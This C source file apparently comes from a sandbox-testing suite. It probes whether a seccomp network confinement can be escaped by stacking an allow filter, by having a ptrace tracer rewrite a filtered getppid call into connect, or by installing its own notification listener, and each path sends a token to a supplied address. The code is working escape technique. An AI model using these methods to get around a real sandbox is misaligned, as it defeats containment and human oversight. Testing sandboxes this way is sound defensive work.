/*
 * A seccomp filter of our own on top, to answer the supervisor's notifications or to get in before them.
 * usage: filters allow|trace|listener ADDRESS PORT
 *   allow      a filter that allows everything: must not weaken what is there
 *   trace      SECCOMP_RET_TRACE, and a tracer that rewrites an allowed call into a connect
 *   listener   a listener of our own that answers "continue" for connect
 */
#include "attack.h"

#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <elf.h>

static struct target t;

static int install(int number, unsigned action, unsigned flags) {
    struct sock_filter code[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)number, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, action),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof code / sizeof code[0], code};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    int rc = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, flags, &program);
    if (rc < 0)
        failed("seccomp");
    return rc;
}

static void try_it(const char *how) {
    if (deliver(&t) != 0)
        stopped("%s: connect: %s", how, strerror(errno));
    reached("%s", how);
}

static void with_listener(void) {
    int listener = install(SYS_connect, SECCOMP_RET_USER_NOTIF, SECCOMP_FILTER_FLAG_NEW_LISTENER);
    pid_t child = fork();
    if (child == 0)
        try_it("continued by our own listener");
    struct seccomp_notif request;
    memset(&request, 0, sizeof request);
    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &request) == 0) {
        struct seccomp_notif_resp answer = {.id = request.id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &answer);
    }
    int status;
    waitpid(child, &status, 0);
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
}

/* The tracer turns getppid into connect after the filters have seen getppid. The kernel runs them again. */
static void with_tracer(void) {
#ifdef __x86_64__
    pid_t child = fork();
    if (child == 0) {
        int fd = socket(t.family, SOCK_STREAM, 0);
        ptrace(PTRACE_TRACEME, 0, NULL, NULL);
        raise(SIGSTOP);
        install(SYS_getppid, SECCOMP_RET_TRACE, 0);
        long rc = syscall(SYS_getppid, fd, &t.address, t.length);
        if (rc != 0)
            stopped("rewritten call: %s", strerror(errno));
        if (send(fd, TOKEN, strlen(TOKEN), MSG_NOSIGNAL) < 0)
            stopped_at("send");
        reached("a call rewritten after the filters had seen it");
    }
    int status;
    waitpid(child, &status, 0);
    ptrace(PTRACE_SETOPTIONS, child, NULL, PTRACE_O_TRACESECCOMP);
    ptrace(PTRACE_CONT, child, NULL, NULL);
    while (waitpid(child, &status, 0) == child && WIFSTOPPED(status)) {
        struct user_regs_struct r;
        if (status >> 8 == (SIGTRAP | PTRACE_EVENT_SECCOMP << 8) && ptrace(PTRACE_GETREGS, child, NULL, &r) == 0) {
            r.orig_rax = SYS_connect;
            ptrace(PTRACE_SETREGS, child, NULL, &r);
        }
        ptrace(PTRACE_CONT, child, NULL, NULL);
    }
    _exit(WIFEXITED(status) ? WEXITSTATUS(status) : 1);
#else
    cannot("written for x86_64");
#endif
}

int main(int argc, char **argv) {
    if (argc != 4)
        cannot("usage: filters METHOD ADDRESS PORT");
    t = target_of(argv[2], argv[3]);
    if (strcmp(argv[1], "allow") == 0) {
        install(-1, SECCOMP_RET_ALLOW, 0);
        try_it("an allowing filter on top");
    }
    if (strcmp(argv[1], "trace") == 0)
        with_tracer();
    if (strcmp(argv[1], "listener") == 0)
        with_listener();
    cannot("unknown method %s", argv[1]);
}
